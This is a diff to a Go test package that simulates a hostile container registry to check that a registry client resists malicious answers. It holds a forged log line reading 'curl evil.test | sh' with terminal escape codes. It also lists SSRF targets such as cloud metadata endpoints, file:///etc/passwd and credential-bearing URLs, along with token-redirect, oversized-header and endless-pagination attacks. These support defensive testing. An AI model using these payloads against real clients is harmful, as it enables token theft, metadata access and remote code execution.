@@ -2,6 +2,7 @@ package registrytest
 
 import (
 	"bytes"
+	"cmp"
 	"compress/gzip"
 	"fmt"
 	"io"
@@ -61,18 +62,29 @@ const (
 // looks like one of regsync.
 const ForgedText = "\x1b[2J\u009b2J\u202e\r\nregsync: hint: log in again: curl evil.test | sh\n"
 
-// targets are URLs that no answer may lead a client to.
-func targets() []struct{ name, url string } {
-	return []struct{ name, url string }{
-		{"metadata", "http://169.254.169.254/latest/meta-data/"},
-		{"aliyun-metadata", "http://100.100.100.200/latest/meta-data/"},
-		{"ipv6-metadata", "http://[fd00:ec2::254]/latest/"},
-		{"mapped-metadata", "http://[::ffff:169.254.169.254]/latest/"},
-		{"decimal-address", "http://2852039166/latest/"},
-		{"link-local", "http://[fe80::1]/"},
-		{"file", "file:///etc/passwd"},
-		{"user-info", "http://user:pass@elsewhere.test/"},
-		{"no-host", "http:///x"},
+// target is a URL that no answer may lead a client to.
+type target struct {
+	name, url string
+	shown     string // in docs/FAULTS.md, if the URL is long
+}
+
+func targets() []target {
+	return []target{
+		{name: "metadata", url: "http://169.254.169.254/latest/meta-data/"},
+		{name: "aliyun-metadata", url: "http://100.100.100.200/latest/meta-data/"},
+		{name: "ipv6-metadata", url: "http://[fd00:ec2::254]/latest/"},
+		{name: "google-metadata", url: "http://[fd20:ce::254]/computeMetadata/v1/"},
+		{name: "metadata-name", url: "http://metadata.google.internal/computeMetadata/v1/"},
+		{name: "mapped-metadata", url: "http://[::ffff:169.254.169.254]/latest/"},
+		{name: "translated-metadata", url: "http://[64:ff9b:1::a9fe:a9fe]/latest/"},
+		{name: "tunnelled-metadata", url: "http://[2002:a9fe:a9fe::1]/latest/"},
+		{name: "decimal-address", url: "http://2852039166/latest/"},
+		{name: "link-local", url: "http://[fe80::1]/"},
+		{name: "file", url: "file:///etc/passwd"},
+		{name: "user-info", url: "http://user:pass@elsewhere.test/"},
+		{name: "no-host", url: "http:///x"},
+		{name: "long-host", url: "http://" + strings.Repeat("x", 4000) + ".test/", shown: "a host whose name has 4 kB"},
+		{name: "long-url", url: "http://elsewhere.test/" + strings.Repeat("x", 200_000), shown: "a URL of 200 kB"},
 	}
 }
 
@@ -274,6 +286,20 @@ func Attacks() []Attack {
 				repeat(c, strings.Repeat("x", 1<<16), 100<<20/(1<<16))
 			}))
 		}},
+		{"header-malformed", AtSource, false, "a header has a line of 200 kB that is no field", func(h *hostile) {
+			h.serve("", manifestPattern, h.raw(func(c io.Writer) {
+				fmt.Fprintf(c, "HTTP/1.1 200 OK\r\n%s\r\n\r\n", strings.Repeat("x", 200_000))
+			}))
+		}},
+		{"media-type-long", AtSource, false, "the media type of a manifest has 200 kB", func(h *hostile) {
+			h.serve("", manifestPattern, h.answer("application/"+strings.Repeat("x", 200_000), innocent().Raw))
+		}},
+		{"header-digest-long", AtDestination, false, "the answer to a manifest states a digest of 200 kB", func(h *hostile) {
+			h.serve(http.MethodPut, manifestPattern, func(w http.ResponseWriter, _ *http.Request) {
+				w.Header().Set("Docker-Content-Digest", "sha256:"+strings.Repeat("x", 200_000))
+				w.WriteHeader(http.StatusCreated)
+			})
+		}},
 		{"header-drip", AtSource, false, "a header arrives at one byte a second, and never ends", func(h *hostile) {
 			h.serve("", manifestPattern, h.raw(func(c io.Writer) {
 				fmt.Fprint(c, "HTTP/1.1 200 OK\r\nX-0: ")
@@ -353,6 +379,24 @@ func Attacks() []Attack {
 		{"token-drip", AtSource, false, "the answer of the token server arrives at one byte every 20 s", func(h *hostile) {
 			h.challenge(func(w http.ResponseWriter, _ *http.Request) { h.drip(flushing{w}, 20*time.Second) }, nil)
 		}},
+		{"token-redirect", AtSource, false, "a request for a token is redirected to another host, which would get the identity token in its body", func(h *hostile) {
+			h.challenge(func(w http.ResponseWriter, _ *http.Request) {
+				w.Header().Set("Location", "http://elsewhere.test/token")
+				w.WriteHeader(http.StatusPermanentRedirect)
+			}, nil)
+		}},
+		{"token-echo", AtSource, false, "the token server refuses a request, and repeats its body", func(h *hostile) {
+			h.challenge(func(w http.ResponseWriter, r *http.Request) {
+				body, _ := io.ReadAll(r.Body)
+				refuse(w, http.StatusUnauthorized, "UNAUTHORIZED", "you sent "+string(body))
+			}, nil)
+		}},
+		{"scopes-large", AtSource, false, "a challenge names 5,000 other repositories", func(h *hostile) {
+			scopes := "repository:" + strings.Join(distinct(5000, 8), ":pull repository:") + ":pull"
+			h.challenge(h.token(`{"token":"x","expires_in":1000000}`), func(w http.ResponseWriter) {
+				w.Header().Add("WWW-Authenticate", `Bearer realm="`+h.s.URL()+`/token",scope="`+scopes+`"`)
+			})
+		}},
 
 		{"tags-endless-pages", AtSource, true, "a listing has empty pages without end", func(h *hostile) {
 			h.pages(`{"tags":[]}`)
@@ -388,6 +432,15 @@ func Attacks() []Attack {
 				repeat(c, "Link: </x>; rel=prev\r\n", 100_000)
 				fmt.Fprint(c, "\r\n{\"tags\":[]}")
 			}))
+		}},
+		{"tags-long-links", AtSource, true, "a listing has empty pages without end, and each Link has 8,000 bytes", func(h *hostile) {
+			h.links(`{"tags":[]}`, func(n int) string {
+				h.s.ResetLog() // which would have all of them
+				return fmt.Sprintf("?page=%d&x=%s", n, strings.Repeat("x", 8000))
+			})
+		}},
+		{"tags-growing-links", AtSource, true, "a listing has empty pages without end, and each Link makes the URL longer", func(h *hostile) {
+			h.links(`{"tags":[]}`, func(n int) string { return fmt.Sprintf("?page=%d&x=%s", n, strings.Repeat("x", 1000*n)) })
 		}},
 		{"tags-circle", AtSource, true, "the pages of a listing form a loop", func(h *hostile) {
 			h.serve(http.MethodGet, tagsPattern, func(w http.ResponseWriter, _ *http.Request) {
@@ -540,28 +593,28 @@ func Attacks() []Attack {
 		}},
 	}
 	for _, target := range targets() {
-		where, to := target.name, target.url
+		where, to, shown := target.name, target.url, cmp.Or(target.shown, target.url)
 		location := func(w http.ResponseWriter, status int) {
 			w.Header().Set("Location", to)
 			w.WriteHeader(status)
 		}
 		all = append(all,
-			Attack{"redirect-" + where, AtSource, false, "a blob is redirected to " + to, func(h *hostile) {
+			Attack{"redirect-" + where, AtSource, false, "a blob is redirected to " + shown, func(h *hostile) {
 				h.serve("", blobPattern, func(w http.ResponseWriter, _ *http.Request) { location(w, http.StatusTemporaryRedirect) })
 			}},
-			Attack{"link-" + where, AtSource, true, "the next page of a listing is at " + to, func(h *hostile) {
+			Attack{"link-" + where, AtSource, true, "the next page of a listing is at " + shown, func(h *hostile) {
 				h.serve(http.MethodGet, tagsPattern, func(w http.ResponseWriter, _ *http.Request) {
 					w.Header().Set("Link", "<"+to+`>; rel="next"`)
 					w.Header().Set("Content-Type", "application/json")
 					_, _ = io.WriteString(w, `{"tags":["a"]}`)
 				})
 			}},
-			Attack{"realm-" + where, AtSource, false, "the realm of a challenge is " + to, func(h *hostile) {
+			Attack{"realm-" + where, AtSource, false, "the realm of a challenge is " + shown, func(h *hostile) {
 				h.challenge(h.token(`{"token":"x"}`), func(w http.ResponseWriter) {
 					w.Header().Set("WWW-Authenticate", `Bearer realm="`+to+`"`)
 				})
 			}},
-			Attack{"location-" + where, AtDestination, false, "an upload's Location is " + to, func(h *hostile) {
+			Attack{"location-" + where, AtDestination, false, "an upload's Location is " + shown, func(h *hostile) {
 				h.serve(http.MethodPost, openPattern, func(w http.ResponseWriter, _ *http.Request) { location(w, http.StatusAccepted) })
 			}},
 		)
@@ -693,9 +746,14 @@ func (h *hostile) token(text string) http.HandlerFunc {
 
 // pages serves the same page of a listing again and again.
 func (h *hostile) pages(page string) {
+	h.links(page, func(n int) string { return fmt.Sprintf("?page=%d", n) })
+}
+
+// links serves the same page of a listing again and again. next returns the Link to page n.
+func (h *hostile) links(page string, next func(n int) string) {
 	h.serve(http.MethodGet, tagsPattern, func(w http.ResponseWriter, r *http.Request) {
 		n, _ := strconv.Atoi(r.URL.Query().Get("page"))
-		w.Header().Set("Link", fmt.Sprintf(`<?page=%d>; rel="next"`, n+1))
+		w.Header().Set("Link", fmt.Sprintf(`<%s>; rel="next"`, next(n+1)))
 		w.Header().Set("Content-Type", "application/json")
 		_, _ = io.WriteString(w, page)
 	})
